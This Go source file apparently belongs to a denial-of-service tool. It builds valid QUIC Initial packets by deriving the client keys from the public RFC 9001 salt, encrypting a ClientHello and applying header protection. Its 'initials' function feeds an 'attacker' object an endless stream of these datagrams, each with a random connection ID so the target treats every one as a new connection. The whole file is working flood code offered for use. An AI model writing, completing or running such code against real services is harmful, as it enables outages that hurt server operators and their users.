//go:build linux

package main

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
)

// A QUIC Initial is protected with keys that follow from the connection ID that its
// sender chose: RFC 9001, section 5.2. Whoever can read the RFC can make one.
var initialSalt = []byte{0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a}

// initialBytes is the least that a client's first datagram may have.
const initialBytes = 1200

// initial is a client's first datagram, with the hello in it and of initialBytes.
func initial(dst, src [8]byte, hello []byte) ([]byte, error) {
	secret, err := hkdf.Extract(sha256.New, dst[:], initialSalt)
	if err != nil {
		return nil, err
	}
	client, err := expand(secret, "client in", 32)
	if err != nil {
		return nil, err
	}
	key, err := expand(client, "quic key", 16)
	if err != nil {
		return nil, err
	}
	iv, err := expand(client, "quic iv", 12)
	if err != nil {
		return nil, err
	}
	hp, err := expand(client, "quic hp", 16)
	if err != nil {
		return nil, err
	}
	const numberBytes, tagBytes = 4, 16
	head := []byte{0xC0 | numberBytes - 1, 0, 0, 0, 1, 8}
	head = append(head, dst[:]...)
	head = append(head, 8)
	head = append(head, src[:]...)
	head = append(head, 0) // no token
	rest := initialBytes - len(head) - 2
	head = binary.BigEndian.AppendUint16(head, 0x4000|uint16(rest))
	at := len(head)
	head = append(head, 0, 0, 0, 0) // packet 0

	frames := []byte{0x06, 0} // CRYPTO from offset 0
	frames = binary.BigEndian.AppendUint16(frames, 0x4000|uint16(len(hello)))
	frames = append(frames, hello...)
	padding := rest - numberBytes - tagBytes - len(frames)
	if padding < 0 {
		return nil, fmt.Errorf("a ClientHello of %d bytes does not fit into a datagram of %d", len(hello), initialBytes)
	}
	frames = append(frames, make([]byte, padding)...)

	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	seal, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	packet := seal.Seal(head, iv, frames, head)
	hide, err := aes.NewCipher(hp)
	if err != nil {
		return nil, err
	}
	var mask [16]byte
	hide.Encrypt(mask[:], packet[at+4:at+20])
	packet[0] ^= mask[0] & 0x0F
	for i := range numberBytes {
		packet[at+i] ^= mask[1+i]
	}
	return packet, nil
}

// expand is HKDF-Expand-Label of TLS 1.3, without a context.
func expand(secret []byte, label string, n int) ([]byte, error) {
	info := []byte{byte(n >> 8), byte(n), byte(len("tls13 ") + len(label))}
	info = append(info, "tls13 "+label...)
	return hkdf.Expand(sha256.New, secret, string(append(info, 0)), n)
}

// initials floods with first datagrams of connections that are all different.
func initials(ctx context.Context, a *attacker) {
	var src [8]byte
	_, _ = rand.Read(src[:]) // never fails
	hello, err := quicHello(src)
	if err != nil {
		a.failed(ctx, err)
		return
	}
	a.datagrams(ctx, func(int) []byte {
		var dst [8]byte
		_, _ = rand.Read(dst[:]) // never fails
		b, err := initial(dst, src, hello)
		if err != nil {
			a.failed(ctx, err)
		}
		return b
	})
}
